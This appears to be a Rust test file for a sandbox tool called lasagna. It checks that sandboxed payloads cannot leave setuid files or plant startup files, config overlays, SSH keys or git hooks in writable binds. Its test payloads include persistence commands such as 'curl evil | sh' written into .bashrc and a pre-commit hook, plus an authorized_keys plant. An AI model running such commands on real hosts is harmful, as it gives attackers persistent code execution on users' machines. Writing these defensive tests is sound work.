//! What a payload leaves behind in a writable bind, and what it could do to the host after
//! the run: setuid and setgid files that any host user would run as their owner; lasagna's
//! own configuration and the startup files that become the next run's policy or the user's
//! next login. Each attack is made by the payload through a real writable bind, the result
//! is read on the host, and a control shows the same payload succeeding without the defense.

mod common;
use common::*;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

const PYTHON: &str = "/usr/bin/python3";

/// The payload's attempts to leave a file with S_ISUID or S_ISGID in `/out`, one line each:
/// `name ok` or `name errno`.
const SETUID_ATTEMPTS: &str = r#"
import os, ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, f):
    try:
        f()
        print(name, "ok")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
def raw(nr, *args):
    r = libc.syscall(nr, *args)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r
open("/out/plain", "w").close()
attempt("chmod", lambda: os.chmod("/out/plain", 0o6755))
attempt("fchmod", lambda: os.fchmod(os.open("/out/plain", os.O_RDONLY), 0o4755))
attempt("fchmodat2", lambda: raw(452, -100, b"/out/plain", 0o2755, 0))
attempt("open-creat", lambda: os.close(os.open("/out/created", os.O_CREAT | os.O_WRONLY, 0o4755)))
attempt("creat", lambda: raw(85, b"/out/creat", 0o2755))
attempt("mknod", lambda: os.mknod("/out/node", 0o4644 | 0o100000))
open("/out/other", "w").close()
attempt("plain-chmod", lambda: os.chmod("/out/other", 0o1755))
"#;

fn setuid_files_on_host(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let mode = e.metadata().unwrap().permissions().mode();
        if mode & 0o6000 != 0 {
            out.push(format!(
                "{} {:o}",
                e.file_name().to_string_lossy(),
                mode & 0o7777
            ));
        }
    }
    out.sort();
    out
}

fn leave_setuid_files(who: As, profile: &str, extra: &[&str]) -> (String, Vec<String>) {
    let dir = Scratch::new("setuid");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    if who == As::User {
        let (uid, gid) = test_user().unwrap();
        std::os::unix::fs::chown(&out, Some(uid), Some(gid)).unwrap();
    } else {
        // As root the payload is host uid 65534.
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let bind = format!("{}:/out", out.display());
    let mut args = vec!["run", "-p", profile, "--bind", &bind];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", PYTHON, "-c", SETUID_ATTEMPTS]);
    let o = run(who, &args);
    assert_code(&o, 0);
    (stdout(&o), setuid_files_on_host(&out))
}

both!(a_payload_cannot_leave_setuid_or_setgid_files, |who| {
    if !std::path::Path::new(PYTHON).exists() {
        skip(
            "a_payload_cannot_leave_setuid_or_setgid_files",
            "python3 missing",
        );
        return;
    }
    let (said, found) = leave_setuid_files(who, "strict", &[]);
    for name in ["chmod", "fchmod", "fchmodat2", "open-creat", "creat"] {
        assert!(
            said.contains(&format!("{name} EPERM")),
            "{name} refused: {said}"
        );
    }
    // mknod of a regular file with S_ISUID: refused by the filter (EPERM) before any
    // capability check.
    assert!(said.contains("mknod EPERM"), "{said}");
    assert!(
        said.contains("plain-chmod ok"),
        "a mode without the bits is set: {said}"
    );
    assert_eq!(
        found,
        Vec::<String>::new(),
        "no setuid or setgid file on the host"
    );

    // The profile key that lifts the edge, named by explain.
    let dir = Scratch::new("setuid-lift");
    let lifted = dir.write(
        "lifted.yaml",
        "extends: strict\nlayers:\n  seccomp:\n    allow-dangerous: [setuid-files]\n",
    );
    let (said, found) = leave_setuid_files(who, &lifted, &[]);
    assert!(said.contains("chmod ok"), "{said}");
    assert!(found.iter().any(|f| f.starts_with("plain ")), "{found:?}");
    let o = run(who, &["explain", &lifted]);
    assert!(
        stdout(&o).contains("allowed by allow-dangerous: chmod"),
        "{}",
        stdout(&o)
    );
    let o = run(who, &["explain", "strict"]);
    assert!(
        stdout(&o).contains("setting S_ISUID or S_ISGID on a file"),
        "{}",
        stdout(&o)
    );

    // Control: the same payload without the seccomp layer leaves them.
    let (said, found) = leave_setuid_files(who, "strict", &["--without", "seccomp"]);
    assert!(said.contains("chmod ok"), "{said}");
    assert!(
        found.iter().any(|f| f.starts_with("plain ")),
        "without seccomp the payload's chmod 6755 lands on the host: {found:?} ({said})"
    );
});

/// A home directory for `who`'s payload to write (as root the payload is host uid 65534),
/// with a `.bashrc` and a `.config`.
fn home_for(who: As, tag: &str) -> Scratch {
    let home = Scratch::new(tag);
    std::fs::create_dir(home.path().join(".config")).unwrap();
    std::fs::write(home.path().join(".bashrc"), "# the user's own\n").unwrap();
    std::fs::write(home.path().join("notes.txt"), "").unwrap();
    chown_tree(home.path(), payload_ids(who));
    home
}

/// The payload's host ids: the user's own, or as root lasagna's default 65534.
fn payload_ids(who: As) -> (u32, u32) {
    match who {
        As::User => test_user().unwrap(),
        As::Root => (65534, 65534),
    }
}

/// A profile (in a directory of its own, root's when the tests run as root) that extends
/// `parent` with the guard classes `classes` left writable.
fn unprotected(parent: &str, classes: &str) -> (Scratch, String) {
    let dir = Scratch::new("unprotected");
    let path = dir.write(
        "lifted.yaml",
        &format!("extends: {parent}\nlayers:\n  filesystem:\n    unprotect: [{classes}]\n"),
    );
    (dir, path)
}

/// `lasagna run -p PROFILE [--bind-cwd] -- /bin/sh -c SCRIPT` from `dir` as its home.
fn sh_from(
    who: As,
    dir: &Path,
    profile: &str,
    bind_cwd: bool,
    script: &str,
) -> std::process::Output {
    let mut args = vec!["run", "-p", profile];
    if bind_cwd {
        args.push("--bind-cwd");
    }
    args.extend_from_slice(&["--", "/bin/sh", "-c", script]);
    run_from(who, dir, &args)
}

fn chown_tree(dir: &Path, (uid, gid): (u32, u32)) {
    let status = std::process::Command::new("chown")
        .arg("-R")
        .arg(format!("{uid}:{gid}"))
        .arg(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

/// `lasagna ARGS` as `who`, from `dir` with HOME=`dir` (the caller's own home).
fn run_from(who: As, dir: &Path, args: &[&str]) -> std::process::Output {
    let mut cmd = command(who, args);
    cmd.current_dir(dir)
        .env("HOME", dir)
        .env_remove("XDG_CONFIG_HOME");
    output_within(cmd, DEADLINE)
}

/// What the payload tries from its own home, one line each: `name ok` or `name failed`.
const PLANT: &str = r#"
try() { name=$1; shift; if "$@" 2>/dev/null; then echo "$name ok"; else echo "$name failed"; fi; }
try overlay sh -c 'mkdir -p .config/lasagna/profiles && printf "layers:\n  seccomp: {mode: off}\n" > .config/lasagna/profiles/strict.local.yaml'
try rename-config mv .config .config-old
try rename-then-plant sh -c 'mkdir -p .config/lasagna/profiles && printf "layers:\n  seccomp: {mode: off}\n" > .config/lasagna/profiles/strict.local.yaml'
try bashrc sh -c 'echo "curl evil | sh" >> .bashrc'
try bashrc-replace sh -c 'rm -f .bashrc && echo evil > .bashrc'
try authorized-keys sh -c 'mkdir -p .ssh && echo ssh-ed25519 AAAA > .ssh/authorized_keys'
try own-file sh -c 'echo mine >> notes.txt'
"#;

both!(
    a_payload_cannot_plant_the_next_runs_policy_or_startup_files,
    |who| {
        let home = home_for(who, "plant");
        let h = home.path();
        let o = sh_from(who, h, "strict", true, PLANT);
        assert_code(&o, 0);
        let said = stdout(&o);
        for attempt in [
            "overlay",
            "rename-config",
            "rename-then-plant",
            "bashrc",
            "bashrc-replace",
            "authorized-keys",
        ] {
            assert!(
                said.contains(&format!("{attempt} failed")),
                "{attempt}: {said}"
            );
        }
        assert!(
            said.contains("own-file ok"),
            "the bind stays writable: {said}"
        );
        let overlay = h.join(".config/lasagna/profiles/strict.local.yaml");
        assert!(!overlay.exists(), "no overlay on the host");
        assert!(h.join(".config").is_dir() && !h.join(".config-old").exists());
        assert_eq!(
            std::fs::read_to_string(h.join(".bashrc")).unwrap(),
            "# the user's own\n"
        );
        assert!(
            !h.join(".ssh").exists(),
            "the mount point made for the run is gone"
        );
        assert!(!h.join(".config/lasagna").exists());
        assert_eq!(
            std::fs::read_to_string(h.join("notes.txt")).unwrap(),
            "mine\n"
        );

        // Control: with the classes unprotected the same payload plants its overlay and
        // startup files, and the next run of `strict` names the overlay it now uses.
        let (_profiles, lifted) = unprotected("strict", "lasagna-config, startup-files");
        let o = sh_from(who, h, &lifted, true, PLANT);
        assert_code(&o, 0);
        let said = stdout(&o);
        assert!(
            said.contains("overlay ok") && said.contains("bashrc ok"),
            "{said}"
        );
        assert!(overlay.exists());
        let next = run_from(
            who,
            h,
            &[
                "run",
                "-p",
                "strict",
                "--",
                "/bin/grep",
                "^Seccomp:",
                "/proc/self/status",
            ],
        );
        match who {
            // Unprivileged, the overlay is the user's own: it is used, and named.
            As::User => {
                assert_code(&next, 0);
                assert!(stdout(&next).contains("Seccomp:\t0"), "{}", stdout(&next));
                assert!(
                    stderr(&next).contains(&format!("strict: using {}", overlay.display())),
                    "{}",
                    stderr(&next)
                );
            }
            // As root, a file the payload's uid owns is refused.
            As::Root => {
                assert_ne!(next.status.code(), Some(0));
                assert!(
                    stderr(&next).contains("refused as root"),
                    "{}",
                    stderr(&next)
                );
            }
        }
    }
);

both!(
    a_payload_cannot_plant_git_hooks_in_the_repository_it_works_in,
    |who| {
        let repo = home_for(who, "hooks");
        let r = repo.path();
        std::fs::create_dir_all(r.join(".git/hooks")).unwrap();
        std::fs::write(r.join(".git/config"), "[core]\n").unwrap();
        chown_tree(r, payload_ids(who));
        let script = "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-planted; \
                  echo '[core] fsmonitor = evil' >> .git/config && echo config-changed; \
                  echo work > file.c && echo worked";
        let o = sh_from(who, r, "cli-write", false, script);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "worked\n", "{}", stderr(&o));
        assert!(!r.join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(r.join(".git/config")).unwrap(),
            "[core]\n"
        );

        // explain names what it keeps.
        let o = run_from(who, r, &["explain", "cli-write"]);
        let text = stdout(&o);
        assert!(
            text.contains(
                "kept read-only inside the writable binds, the repository's hooks and config"
            ),
            "{text}"
        );

        // Control: unprotected, the hook lands.
        let (_profiles, lifted) = unprotected("cli-write", "git-hooks");
        let o = sh_from(who, r, &lifted, false, script);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "hook-planted\nconfig-changed\nworked\n");
        assert!(r.join(".git/hooks/pre-commit").exists());
    }
);

both!(
    the_profile_file_of_the_run_cannot_be_rewritten_from_inside,
    |who| {
        let dir = home_for(who, "ownprofile");
        let d = dir.path();
        let profile = dir.write("mine.yaml", "extends: cli-write\n");
        let script = "printf 'extends: cli-write\\nlayers: {seccomp: {mode: off}}\\n' > mine.yaml && echo rewritten; echo x > other && echo other-written";
        let o = sh_from(who, d, "./mine.yaml", false, script);
        if who == As::Root {
            // As root the profile in a directory the payload's uid owns is refused before
            // anything runs: the owner check is the defense there.
            assert_ne!(o.status.code(), Some(0));
            assert!(stderr(&o).contains("refused as root"), "{}", stderr(&o));
            return;
        }
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "other-written\n", "{}", stderr(&o));
        assert_eq!(
            std::fs::read_to_string(&profile).unwrap(),
            "extends: cli-write\n"
        );
    }
);

both!(
    a_home_without_config_gets_no_overlay_and_keeps_a_usable_config,
    |who| {
        let home = home_for(who, "fresh");
        let h = home.path();
        std::fs::remove_dir(h.join(".config")).unwrap();
        let script = "mkdir -p .config/lasagna/profiles 2>/dev/null && echo x > .config/lasagna/profiles/strict.local.yaml && echo planted; \
                  mv .config .config-old 2>/dev/null && echo renamed; \
                  mkdir -p .config/app && echo y > .config/app/settings && echo app-config";
        let o = sh_from(who, h, "strict", true, script);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "app-config\n", "{}", stderr(&o));
        assert!(!h.join(".config/lasagna").exists());
        assert!(!h.join(".config-old").exists());
        // What the payload wrote into the directory made for the run stays.
        assert_eq!(
            std::fs::read_to_string(h.join(".config/app/settings")).unwrap(),
            "y\n"
        );
    }
);
